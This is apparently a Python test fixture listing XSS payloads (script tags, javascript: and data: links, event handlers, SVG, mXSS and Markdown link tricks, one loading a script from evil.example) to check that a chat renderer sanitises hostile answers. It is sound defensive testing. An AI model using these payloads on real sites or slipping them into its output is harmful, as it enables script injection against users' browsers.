"""Hostile chat answers: script tags, `javascript:` links, event-handler attributes, SVG
payloads, broken HTML and Markdown link tricks. Each one, if it ever ran, would set
`window.__xss`; the rendered HTML must keep none of it alive."""

from __future__ import annotations

CORPUS: tuple[str, ...] = (
    "<script>window.__xss = 'script'</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=\"window.__xss = 'img'\">",
    "<body onload=\"window.__xss = 'body'\">",
    "<a href=\"javascript:window.__xss = 'a'\">raw link</a>",
    "[md link](javascript:window.__xss='md')",
    "[mixed case](JaVaScRiPt:window.__xss='case')",
    "[entity](&#106;avascript:window.__xss='entity')",
    "[hex entity](&#x6A;avascript:window.__xss='hex')",
    "[tab](java\tscript:window.__xss='tab')",
    "[spaces]( javascript:window.__xss='space' )",
    "<javascript:window.__xss='autolink'>",
    "[ref link][evil]\n\n[evil]: javascript:window.__xss='ref'",
    "[data](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9J2RhdGEnPC9zY3JpcHQ+)",
    "[vb](vbscript:msgbox('x'))",
    "![image](javascript:window.__xss='image')",
    "![track](https://evil.example/pixel.png \"onerror=alert(1)\")",
    "<svg onload=\"window.__xss = 'svg'\"><circle r=1 /></svg>",
    "<svg><script>window.__xss = 'svg-script'</script></svg>",
    "<svg><a xlink:href=\"javascript:window.__xss='svg-a'\"><text y=20>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=\"window.__xss='mxss'\">",
    "<iframe src=\"javascript:window.__xss='iframe'\"></iframe>",
    "<object data=\"javascript:window.__xss='object'\"></object>",
    "<div <img src=x onerror=\"window.__xss='broken'\">",
    "<<script>script>window.__xss='nested'<</script>/script>",
    "<style>body { display: none }</style><p style=\"color:red\" onclick=\"x()\">styled</p>",
    "<details open ontoggle=\"window.__xss='details'\">x</details>",
    "```\" onmouseover=\"window.__xss='fence'\ncode\n```",
    "```js onload=alert(1)\nlet a = '</code><img src=x onerror=alert(1)>'\n```",
    "`<img src=x onerror=alert(1)>`",
    "<form action=\"javascript:window.__xss='form'\"><button>go</button></form>",
    "<a href=\"#\" onclick=\"window.__xss='click'\">click me</a>",
    "<!--<img src=x onerror=\"window.__xss='comment'\">-->",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:window.__xss='meta'\">",
)
